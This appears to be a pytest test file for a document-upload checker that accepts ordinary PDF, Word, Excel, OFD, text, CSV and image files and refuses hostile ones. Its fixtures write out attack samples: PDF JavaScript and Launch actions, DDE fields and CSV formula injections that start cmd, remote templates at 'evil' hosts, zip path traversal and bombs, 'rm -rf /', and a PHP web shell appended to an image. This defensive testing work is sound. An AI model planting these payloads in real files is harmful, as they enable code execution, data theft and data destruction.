"""What is accepted and what is refused, by content; each document is built here."""

import io
import re
import zipfile

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name
from PIL import Image

from engine.files.judge import judge
from engine.files.kinds import KINDS
from engine.files.markup import Budget, Visitor, read_xml
from engine.files.refusal import Refused
from tests.unit.files.builders import (
    RELATION,
    container,
    docx,
    docx_parts,
    field,
    image,
    ofd,
    outside,
    pdf,
    relations,
    xlsx,
)


def refusal(kind: str, data: bytes) -> str:
    with pytest.raises(Refused) as caught:
        judge(KINDS[kind], data)
    return caught.value.code


def with_catalog(**entries):
    def change(document):
        for key, value in entries.items():
            document.Root[f"/{key}"] = value

    return change


def with_annotation(**entries):
    def change(document):
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], **entries)
        document.pages[0].Annots = Array([note])  # direct: not in the list of indirect objects

    return change


def link(target: str):
    return with_annotation(A=Dictionary(S=Name.URI, URI=target))


def with_button_script(document):
    document.pages[0].Resources = Dictionary(
        XObject=Dictionary(A=Array([Dictionary(S=Name.JavaScript, JS="app.alert(1)")]))
    )


def with_attachment(document):
    document.attachments["evil.exe"] = b"MZ"


def with_stream_elsewhere(document):
    stream = document.make_stream(b"")
    stream["/F"] = pikepdf.String("/etc/passwd")
    document.Root.Extra = stream


GOOD = {
    "a plain PDF": ("pdf", pdf()),
    "a PDF with object streams": ("pdf", pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    "a linearised PDF": ("pdf", pdf(linearize=True)),
    "a PDF that may be read without a password": ("pdf", pdf(encryption=pikepdf.Encryption(owner="o", user=""))),
    "a PDF that opens at its first page": ("pdf", pdf(with_catalog(OpenAction=Dictionary(S=Name.GoTo, D=[0])))),
    "a PDF with a link to the web": ("pdf", pdf(link("https://example.gov.cn/a"))),
    "a PDF with a font that is called JS": (
        "pdf",
        pdf(with_annotation(R=Dictionary(Font=Dictionary(JS=Dictionary())))),
    ),
    "a Word file": (
        "docx",
        docx("<w:p><w:r><w:t>关于 DDE 的说明</w:t></w:r></w:p>" + field(" PAGE ", "\\* MERGEFORMAT")),
    ),
    "a Word file with a link": (
        "docx",
        docx(more={"word/_rels/document.xml.rels": outside("hyperlink", "https://a.cn/")}),
    ),
    "a Word file with a picture": ("docx", docx(more={"word/media/image1.png": image()})),
    "an Excel file": ("xlsx", xlsx('<c><f>SUM(A1:B2)&amp;"a|b"</f><v>3</v></c>')),
    "an Excel file with printer settings": ("xlsx", xlsx(more={"xl/printerSettings/printerSettings1.bin": b"\0\1"})),
    "an OFD file": ("ofd", ofd()),
    "an electronic invoice with its data": ("ofd", ofd({"Doc_0/Attachs/original_invoice.xml": "<a/>"})),
    "text in UTF-8": ("txt", "情况说明\n一切正常。\n".encode()),
    "text with a byte order mark": ("txt", b"\xef\xbb\xbf" + "说明".encode()),
    "text in GB18030": ("txt", "情况说明，一切正常".encode("gb18030")),
    "CSV with negative numbers, telephones and dashes": (
        "csv",
        "名称,数,电话\n甲,-1.5,+86 138-0000-0000\n乙,-,—\n".encode(),
    ),
}


@pytest.mark.parametrize("what", GOOD)
def test_an_ordinary_document_is_stored_as_it_came(what):
    kind, data = GOOD[what]

    assert judge(KINDS[kind], data) == data


BAD_PDF = {
    "JavaScript when it opens": (with_catalog(OpenAction=Dictionary(S=Name.JavaScript, JS="1")), "active-content"),
    "JavaScript with an escaped name": (
        with_catalog(OpenAction=Dictionary({"/S": Name("/JavaScript")})),
        "active-content",
    ),
    "a script among named scripts": (
        with_catalog(Names=Dictionary(JavaScript=Dictionary(Names=Array()))),
        "active-content",
    ),
    "a script deep inside direct objects": (with_button_script, "active-content"),
    "a script without its type": (with_annotation(A=Dictionary(JS="app.alert(1)")), "active-content"),
    "an action that starts a program": (with_annotation(A=Dictionary(S=Name.Launch, F="cmd.exe")), "active-content"),
    "an action after a harmless one": (
        with_annotation(A=Dictionary(S=Name.GoTo, D=[0], Next=Dictionary(S=Name.Launch, F="x"))),
        "active-content",
    ),
    "a link to a file": (link("file:///etc/passwd"), "active-content"),
    "a link to a script": (link("javascript:alert(1)"), "active-content"),
    "a link to a share": (link("\\\\evil\\share"), "active-content"),
    "a jump into another file": (with_annotation(A=Dictionary(S=Name.GoToR, F="\\\\evil\\x.pdf")), "active-content"),
    "a form that sends itself": (with_annotation(A=Dictionary(S=Name.SubmitForm, F="http://x/")), "active-content"),
    "an attachment": (with_attachment, "active-content"),
    "a dynamic form (XFA)": (with_catalog(AcroForm=Dictionary(XFA="x")), "active-content"),
    "a film": (with_annotation(M=Dictionary(Subtype=Name.RichMedia)), "active-content"),
    "a stream that stands in another file": (with_stream_elsewhere, "active-content"),
}


@pytest.mark.parametrize("what", BAD_PDF)
def test_a_pdf_that_could_act_is_refused(what):
    change, code = BAD_PDF[what]

    assert refusal("pdf", pdf(change)) == code


def test_a_pdf_name_written_with_escapes_is_read_as_what_it_means():
    data = pdf(with_catalog(OpenAction=Dictionary(S=Name.JavaScript, JS="1")), qdf=True)

    assert refusal("pdf", data.replace(b"/S /JavaScript", b"/S /J#61vaScript").replace(b"/JS", b"/#4aS")) in (
        "active-content",
        "broken",  # the lengths moved
    )


def pdf_behind(comment: bytes) -> bytes:
    """A PDF that is right in all its offsets, with a comment behind its header."""
    data = pdf(qdf=True, static_id=True)
    head, _, rest = data.partition(b"\n")
    size = len(comment) + 1

    def moved(found: re.Match[bytes]) -> bytes:
        return b"%010d" % (int(found[1]) + size) + found[2]

    rest = re.sub(rb"(\d{10})( \d{5} n)", moved, rest)
    rest = re.sub(rb"startxref\n(\d+)", lambda found: b"startxref\n%d" % (int(found[1]) + size), rest)
    return head + b"\n" + comment + b"\n" + rest


def test_a_pdf_with_a_harmless_comment_and_blanks_behind_its_end_is_accepted():
    data = pdf_behind(b"%made by a scanner") + b"\r\n\0\0"

    assert judge(KINDS["pdf"], data) == data


OTHER_BAD_PDF = {
    "a prefix before the header": (b"<script>" + pdf(), "content-differs"),
    "not a PDF at all": (b"MZ\x90\0", "content-differs"),
    "a web page behind the end": (pdf() + b"<html><script>alert(1)</script>", "broken"),
    "an archive behind the end": (pdf() + container({"a.xml": "<a/>"}), "broken"),
    "a web page behind the end, with another end": (pdf() + b"<script>alert(1)</script>\n%%EOF\n", "broken"),
    "a web page behind the header": (pdf_behind(b"%<html><script>alert(1)</script>"), "broken"),
    "half of a PDF": (pdf()[:300], "broken"),
    "a PDF whose table points nowhere": (pdf().replace(b"startxref\n", b"startxref\n9"), "broken"),
    "a PDF that needs a password": (pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "encrypted"),
}


@pytest.mark.parametrize("what", OTHER_BAD_PDF)
def test_a_pdf_that_is_not_whole_is_refused(what):
    data, code = OTHER_BAD_PDF[what]

    assert refusal("pdf", data) == code


BAD_OFFICE = {
    "a macro": ("docx", docx(more={"word/vbaProject.bin": b"x"}), "active-content"),
    "a macro under another name": ("docx", docx(more={"word/harmless.bin": b"x"}), "active-content"),
    "a macro-enabled type": (
        "docx",
        docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "active-content",
    ),
    "an embedded object": ("docx", docx(more={"word/embeddings/oleObject1.xml": "<a/>"}), "active-content"),
    "an embedded web page": ("docx", docx(more={"word/afchunk.htm": "<script>"}), "active-content"),
    "a template elsewhere": (
        "docx",
        docx(more={"word/_rels/settings.xml.rels": outside("attachedTemplate", "http://evil/t.dotm")}),
        "active-content",
    ),
    "a picture elsewhere, in single quotes": (
        "docx",
        docx(more={"word/_rels/document.xml.rels": outside("image", "http://evil/p.png", "'")}),
        "active-content",
    ),
    "a target mode written with entities": (
        "docx",
        docx(
            more={
                "word/_rels/document.xml.rels": relations(
                    f'<Relationship Id="r9" Type="{RELATION}/image" Target="http://e/" TargetMode="&#69;xternal"/>'
                )
            }
        ),
        "active-content",
    ),
    "a link to a share": (
        "docx",
        docx(more={"word/_rels/document.xml.rels": outside("hyperlink", "file://evil/share")}),
        "active-content",
    ),
    "a DDE field": ("docx", docx(field("DDEAUTO c:\\\\windows\\\\cmd.exe")), "active-content"),
    "a DDE field over several runs": ("docx", docx(field(" D", "DE", "AUTO cmd")), "active-content"),
    "a DDE field in a header": (
        "docx",
        docx(more={"word/header1.xml": f'<w:hdr xmlns:w="w">{field("DDE cmd")}</w:hdr>'}),
        "active-content",
    ),
    "a DDE field inside another field": (
        "docx",
        docx(field("QUOTE ").replace('<w:r><w:fldChar w:fldCharType="end"/>', field("DDE cmd") + "<w:r>")),
        "active-content",
    ),
    "a simple field that reads a file": (
        "docx",
        docx('<w:p><w:fldSimple w:instr=" INCLUDETEXT c:/x "/></w:p>'),
        "active-content",
    ),
    "a link to another workbook": ("xlsx", xlsx(more={"xl/externalLinks/externalLink1.xml": "<a/>"}), "active-content"),
    "a data connection": ("xlsx", xlsx(more={"xl/connections.xml": "<a/>"}), "active-content"),
    "an Excel 4 macro": ("xlsx", xlsx(more={"xl/macrosheets/sheet1.xml": "<a/>"}), "active-content"),
    "a DDE formula": ("xlsx", xlsx("<c><f>cmd|'/c calc'!A0</f></c>"), "active-content"),
    "a DDE formula in CDATA": ("xlsx", xlsx("<c><f><![CDATA[cmd|'/c calc'!A0]]></f></c>"), "active-content"),
    "a formula that calls the web": ("xlsx", xlsx("<c><f>_xlfn.WEBSERVICE(A1)</f></c>"), "active-content"),
    "a DTD": ("docx", docx(more={"word/a.xml": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}), "dtd"),
    "a DTD in UTF-16": ("docx", docx(more={"word/a.xml": "<!DOCTYPE a []><a/>".encode("utf-16")}), "encoding"),
    "another encoding": ("docx", docx(more={"word/a.xml": '<?xml version="1.0" encoding="gbk"?><a/>'}), "encoding"),
    "broken XML": ("docx", docx(more={"word/a.xml": "<a>"}), "broken"),
    "Excel called Word": ("docx", xlsx(), "content-differs"),
    "any archive called Excel": ("xlsx", container({"a.xml": "<a/>"}), "content-differs"),
    "an old or encrypted Word file": ("docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "content-differs"),
    "a program in an OFD": ("ofd", ofd({"Doc_0/Attachs/a.exe": b"MZ"}), "active-content"),
    "a script in an OFD": ("ofd", ofd({"Doc_0/a.js": "1"}), "active-content"),
    "a file link in an OFD": ("ofd", ofd(page='<ofd:URI URI="file:///c:/x"/>'), "active-content"),
    "any archive called OFD": ("ofd", container({"a.xml": "<a/>"}), "content-differs"),
}


@pytest.mark.parametrize("what", BAD_OFFICE)
def test_an_office_document_that_could_act_is_refused(what):
    kind, data, code = BAD_OFFICE[what]

    assert refusal(kind, data) == code


def rebuilt(change) -> bytes:
    """A Word file whose entries were changed on the way into the container."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in docx_parts().items():
            archive.writestr(name, content)
        change(archive)
    return out.getvalue()


def symlink(archive: zipfile.ZipFile) -> None:
    entry = zipfile.ZipInfo("word/link.xml")
    entry.external_attr = 0o120777 << 16
    archive.writestr(entry, "/etc/passwd")


def hidden_entry() -> bytes:
    """An archive with bytes between two entries that its directory does not tell of."""
    data, extra = docx(), b"PK\x03\x04" + b"\0" * 60
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        start, second = archive.start_dir, archive.infolist()[1].header_offset
    old = second.to_bytes(4, "little")
    directory = data[start:].replace(start.to_bytes(4, "little"), (start + len(extra)).to_bytes(4, "little"))
    shifted = directory
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for entry in archive.infolist()[1:]:
            old = entry.header_offset.to_bytes(4, "little") + entry.filename.encode()
            new = (entry.header_offset + len(extra)).to_bytes(4, "little") + entry.filename.encode()
            shifted = shifted.replace(old, new)
    return data[:second] + extra + data[second:start] + shifted


BAD_CONTAINER = {
    "an entry outside": (lambda: rebuilt(lambda a: a.writestr("../../etc/x.xml", "<a/>")), "bad-entry-name"),
    "an absolute entry": (lambda: rebuilt(lambda a: a.writestr("/etc/x.xml", "<a/>")), "bad-entry-name"),
    "a backslash in a name": (lambda: rebuilt(lambda a: a.writestr("word\\x.xml", "<a/>")), "bad-entry-name"),
    "two names that differ in case": (lambda: rebuilt(lambda a: a.writestr("Word/Document.xml", "<a/>")), "ambiguous"),
    "a symbolic link": (lambda: rebuilt(symlink), "unusual-container"),
    "an unusual compression": (lambda: container(docx_parts(), zipfile.ZIP_LZMA), "unusual-container"),
    "a bomb": (lambda: docx(more={"word/a.xml": b"<a>" + b" " * (40 << 20) + b"</a>"}), "inflates-too-far"),
    "too many entries": (lambda: docx(more={f"word/{n}.xml": "<a/>" for n in range(5001)}), "too-complex"),
    "something behind it": (lambda: docx() + b"<script>", "ambiguous"),
    "something in the middle": (hidden_entry, "ambiguous"),
    "half of it": (lambda: docx()[:400], "broken"),
    "damaged bytes": (lambda: container(docx_parts("good"), zipfile.ZIP_STORED).replace(b"good", b"evil"), "broken"),
}


@pytest.mark.parametrize("what", BAD_CONTAINER)
def test_a_container_that_readers_could_understand_differently_is_refused(what):
    build, code = BAD_CONTAINER[what]

    assert refusal("docx", build()) == code


def test_the_number_of_elements_is_bounded_over_all_parts():
    budget = Budget(elements=3)
    read_xml(b"<a><b/></a>", Visitor(), budget)

    with pytest.raises(Refused) as caught:
        read_xml(b"<a><b/></a>", Visitor(), budget)

    assert caught.value.code == "too-complex"


def test_an_encrypted_entry_is_refused():
    data = bytearray(docx())
    for marker, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(marker) + offset] |= 1

    assert refusal("docx", bytes(data)) == "encrypted"


BAD_TEXT = {
    "a web page": ("txt", b"<!DOCTYPE html><script>alert(1)</script>", "content-differs"),
    "a drawing with script": ("txt", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "content-differs"),
    "a shell script": ("txt", b"#!/bin/sh\nrm -rf /", "content-differs"),
    "a PDF": ("txt", b"%PDF-1.7\n", "content-differs"),
    "a program": ("txt", b"MZ\x90\x00\x03", "content-differs"),
    "bytes that are no characters": ("txt", b"\xff\xfe\x80\x80", "content-differs"),
    "a terminal escape": ("txt", b"\x1b]0;x\x07", "content-differs"),
    "a formula": ("csv", b"a,b\n=1+1,2\n", "formula-in-csv"),
    "a formula in quotes": ("csv", b'a\n"=HYPERLINK(""http://x"")"\n', "formula-in-csv"),
    "a formula behind a semicolon": ("csv", b"a;=cmd|'/c calc'!A0\n", "formula-in-csv"),
    "a formula with a plus": ("csv", b"+cmd|' /C calc'!A0\n", "formula-in-csv"),
    "a formula with a minus": ("csv", b"x,-2+cmd|' /C calc'!A0\n", "formula-in-csv"),
    "a formula with a full-width sign": ("csv", "\uff1d1+1\n".encode(), "formula-in-csv"),
    "a formula in row 6000": ("csv", b"a,b\n" * 5999 + b"@SUM(1),2\n", "formula-in-csv"),
}


@pytest.mark.parametrize("what", BAD_TEXT)
def test_text_that_is_something_else_is_refused(what):
    kind, data, code = BAD_TEXT[what]

    assert refusal(kind, data) == code


@pytest.mark.parametrize(("kind", "form"), [("png", "PNG"), ("jpg", "JPEG")])
def test_a_picture_is_written_anew_and_nothing_else_survives(kind, form):
    exif = Image.Exif()
    exif[0x010E] = "secret place"
    data = image(form, exif=exif) + b"<?php system($_GET[1]); ?>"

    stored = judge(KINDS[kind], data)

    assert b"secret" not in stored
    assert b"php" not in stored
    with Image.open(io.BytesIO(stored)) as picture:
        assert (picture.format, picture.size, dict(picture.getexif())) == (form, (40, 20), {})


def test_a_photograph_stands_upright_after_its_orientation_note_is_gone():
    exif = Image.Exif()
    exif[0x0112] = 6  # the camera was turned: rotate by 90 degrees to see it right

    stored = judge(KINDS["jpg"], image("JPEG", exif=exif))

    with Image.open(io.BytesIO(stored)) as picture:
        assert picture.size == (20, 40)
        assert picture.getpixel((10, 2)) < (60, 60, 60) < picture.getpixel((10, 37))


@pytest.mark.parametrize(
    ("form", "mode"), [("PNG", "P"), ("PNG", "RGBA"), ("PNG", "L"), ("JPEG", "L"), ("JPEG", "CMYK")]
)
def test_pictures_of_every_usual_mode_are_accepted(form, mode):
    judge(KINDS["png" if form == "PNG" else "jpg"], image(form, mode))


def test_transparency_of_a_palette_picture_survives():
    stored = judge(KINDS["png"], image("PNG", "P", transparency=0))

    with Image.open(io.BytesIO(stored)) as picture:
        assert picture.getpixel((0, 0))[3] == 0


BAD_IMAGE = {
    "a JPEG called PNG": ("png", image("JPEG"), "content-differs"),
    "a web page called JPEG": ("jpg", b"<html>", "content-differs"),
    "half of a picture": ("png", image("PNG", size=(300, 300))[:200], "broken"),
    "a header and nothing": ("jpg", b"\xff\xd8\xff\xe0", "broken"),
    "too many pixels": ("png", image("PNG", "L", (20_000, 2_001)), "too-many-pixels"),
}


@pytest.mark.parametrize("what", BAD_IMAGE)
def test_a_picture_that_is_none_is_refused(what):
    kind, data, code = BAD_IMAGE[what]

    assert refusal(kind, data) == code


def test_a_picture_that_claims_billions_of_pixels_is_refused_before_it_is_decoded():
    data = bytearray(image("PNG"))
    data[16:24] = (60_000).to_bytes(4, "big") * 2

    assert refusal("png", bytes(data)) in ("too-many-pixels", "broken")
